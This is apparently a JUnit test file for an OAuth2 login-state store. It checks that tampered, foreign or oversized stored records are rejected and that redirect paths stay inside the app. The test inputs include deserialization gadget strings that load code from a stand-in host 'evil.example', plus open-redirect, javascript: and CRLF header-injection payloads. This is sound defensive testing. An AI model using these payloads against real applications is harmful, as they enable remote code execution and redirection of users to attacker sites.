package io.github.oauth2state.scenario;

import java.nio.charset.StandardCharsets;
import java.util.HexFormat;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import io.github.oauth2state.LoginOutcome;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Attacks by who can write to the store, and by what an app is made to store. Who can
 * write can destroy a login, so that the browser begins anew.
 */
@Tag("full")
class PayloadAttackTests extends AttackTests {

	PayloadAttackTests(Deployment deployment) {
		super(deployment);
	}

	@ParameterizedTest
	@ValueSource(doubles = { 0, 0.01, 0.03, 0.1, 0.5, 0.9, 1 })
	void flippedBitIsNoticed(double position) {
		VictimLogin login = begin();
		this.cluster.records.rewrite((value) -> {
			value[(int) (position * (value.length - 1))] ^= 1;
			return value;
		});
		assertUnreadable(login);
	}

	@Test
	void valuesOfTwoKeysThatWereSwappedAreNoticed() {
		VictimLogin first = begin();
		VictimLogin second = begin();
		this.cluster.records.swap();
		assertUnreadable(first);
		this.browser.cookies().remove(this.stack.sessionCookie());
		assertUnreadable(second);
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "00", "01", "02", "ff", "aced0005",
			"aced0005737200116a6176612e7574696c2e486173684d6170", "a0", "bfff", "9fff", "c11a514b67b0", "1f8b0800" })
	void bytesOfAnotherKindAreUnreadable(String hex) {
		assertUnreadableAs(HexFormat.of().parseHex(hex));
	}

	@ParameterizedTest
	@ValueSource(strings = { "null", "{}", "{\"@class\":\"javax.script.ScriptEngineManager\"}",
			"[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://evil.example/\"]",
			"!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example/\"]]" })
	void gadgetsAreUnreadable(String text) {
		assertUnreadableAs(text.getBytes(StandardCharsets.UTF_8));
	}

	@Test
	void deepNestingAndLargeValuesAreUnreadable() {
		assertUnreadableAs("[".repeat(60_000).getBytes(StandardCharsets.UTF_8));
		this.browser.cookies().clear();
		assertUnreadableAs(new byte[64 * 1024]);
	}

	private void assertUnreadableAs(byte[] content) {
		VictimLogin login = begin();
		this.cluster.records.rewrite((value) -> content);
		assertUnreadable(login);
	}

	private void assertUnreadable(VictimLogin login) {
		Browser.Page page = attack(() -> login.browser().open(this.b, login.callback()));
		assertThat(outcomes()).containsExactly(LoginOutcome.UNREADABLE);
		assertBeginsAnew(login.browser(), page);
	}

	@ParameterizedTest
	@ValueSource(strings = { "oversized", "unsupported", "deep", "cyclic", "unpaired" })
	void attributesThatCannotBeStoredFailAtBegin(String attribute) {
		VictimLogin login = begin();
		Browser.Page page = this.browser.open(this.a, BEGIN + "?attribute=" + attribute);
		assertThat(String.valueOf(page.location())).doesNotContain("/oauth2/authorize");
		assertThat(page.setCookies()).noneMatch((cookie) -> cookie.contains("oauth2-state-"));
		assertThat(this.cluster.records.size()).isOne();
		assertCompletes(login);
	}

	@ParameterizedTest
	@ValueSource(strings = { "//evil.example/", "/\\evil.example", "\\\\evil.example", "https://evil.example",
			"javascript:alert(1)", "/\t/evil.example", "/\r\nLocation: https://evil.example", "", "idp" })
	void pathToBeginAnewNeverLeavesTheApp(String path) {
		VictimLogin login = begin();
		String cookie = login.cookie();
		login.beganAt(path);
		attackWithoutStoreCall(() -> this.browser.open(this.b, login.callback()));
		login.setCookie(cookie);
		assertCompletes(login);
	}

	@ParameterizedTest
	@ValueSource(strings = { "/@evil.example", "/%2f%2fevil.example", "/%5cevil.example", "/.evil.example",
			"/a?next=//evil.example", "/;@evil.example" })
	void oddPathToBeginAnewStaysInTheApp(String path) {
		VictimLogin login = begin();
		login.beganAt(path);
		this.cluster.records.clear();
		Browser.Page page = attack(() -> this.browser.open(this.b, login.callback()));
		assertThat(page.location()).isEqualTo(APP + path);
	}

}
